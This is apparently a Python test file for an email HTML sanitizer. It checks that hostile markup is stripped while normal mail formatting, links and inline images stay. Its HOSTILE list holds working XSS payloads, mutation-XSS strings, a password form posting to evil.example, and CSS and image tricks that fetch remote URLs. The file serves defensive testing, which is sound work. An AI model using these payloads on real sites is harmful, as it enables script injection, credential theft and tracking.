"""S3: of hostile HTML nothing is left that runs, posts, or asks for something remote."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emails.html import ATTRIBUTES, TAGS, safe_html

INLINE = {"plan@atelier": "/email/1/attachments/0/"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:\\75rl(https://evil.example/x)'>x</div>",
    "<div style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(x)'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9'>over everything</p>",
    "<img srcset='https://evil.example/x 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<input type=image src='https://evil.example/x'>",
    "<video poster='https://evil.example/x' src='https://evil.example/y'></video>",
    "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "<table background='https://evil.example/x'><tr><td background=//evil.example/x>1</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div id=reader class=toast>takes a name of ours</div>",
]
#: By attribute, values that no browser must see.
UNFIT = {
    "src": re.compile(r"^(?!/email/1/attachments/0/$|data:image/(png|jpeg|gif|webp|bmp);base64,)", re.IGNORECASE),
    "href": re.compile(r"^\s*(?!https?:|mailto:|tel:)", re.IGNORECASE),
    "style": re.compile(r"url|expression|position|\\", re.IGNORECASE),
    "srcset": re.compile(""),
    "background": re.compile(""),
}


class Leftovers(HTMLParser):
    """What a browser would run, post or fetch."""

    def __init__(self, clean: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(clean)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target", "referrerpolicy"}
        for name, value in attrs:
            if name not in allowed and (tag, name) not in {("div", "class"), ("div", "id"), ("blockquote", "type")}:
                self.found.append(f"{tag} {name}")
            if name in UNFIT and UNFIT[name].search(value or ""):
                self.found.append(f"{name} {value}")


def leftovers(clean: str) -> list[str]:
    return Leftovers(clean).found


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_is_left_of_what_is_hostile(hostile: str) -> None:
    clean = safe_html(f"<p>Hello</p>{hostile}<p>Bye</p>", INLINE).html
    assert leftovers(clean) == []
    assert "alert" not in re.sub(r'title="[^"]*"', "", clean)
    assert "<p>Hello</p>" in clean


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "<!--", "-->", "<table>", "</div>", "x", "\x00"]), max_size=8
    )
)
@settings(max_examples=150, deadline=None)
def test_nor_of_any_mixture_of_it(parts: list[str]) -> None:
    assert leftovers(safe_html("".join(parts), INLINE).html) == []


def test_what_mail_is_made_of_stays() -> None:
    html = (
        '<table width="600" bgcolor="#eeeeee"><tr><td align="right" style="color: red; font-size: 12px">24</td></tr>'
        '</table><ul><li>One</li></ul><p dir="rtl">שלום</p>'
    )
    clean = safe_html(html, {}).html
    for part in ('width="600"', 'bgcolor="#eeeeee"', 'align="right"', "color:red", "font-size:12px", 'dir="rtl"'):
        assert part in clean


def test_links_open_elsewhere_and_tell_nothing() -> None:
    clean = safe_html('<a href="https://atelier-lyon.example/gates">Gates</a>', {}).html
    assert 'href="https://atelier-lyon.example/gates"' in clean
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_pictures_that_come_along_are_shown() -> None:
    assert 'src="/email/1/attachments/0/"' in safe_html('<img src="CID:Plan@Atelier">', INLINE).html
    assert "src=" not in safe_html('<img src="cid:unknown">', INLINE).html


def test_remote_pictures_are_counted_and_wait() -> None:
    html = (
        '<img src="https://t.example/a.gif"><img src="//t.example/b.gif"><table background="http://t.example/c.gif"><td>'
        '<p style="color:red;background:url(https://t.example/d.gif)">x</p>'
    )
    waiting = safe_html(html, {})
    assert waiting.remote == 4
    assert "t.example" not in waiting.html
    loaded = safe_html(html, {}, with_remote=True)
    assert 'src="https://t.example/a.gif"' in loaded.html
    assert 'referrerpolicy="no-referrer"' in loaded.html


def test_marks_of_quotations_stay_and_no_others() -> None:
    html = '<div class="gmail_quote x">a</div><div id="x" class="y">b</div><blockquote type="cite">c'
    clean = safe_html(html, {}).html
    assert '<div class="gmail_quote">' in clean
    assert '<blockquote type="cite">' in clean
    assert '<div class="">b</div>' in clean
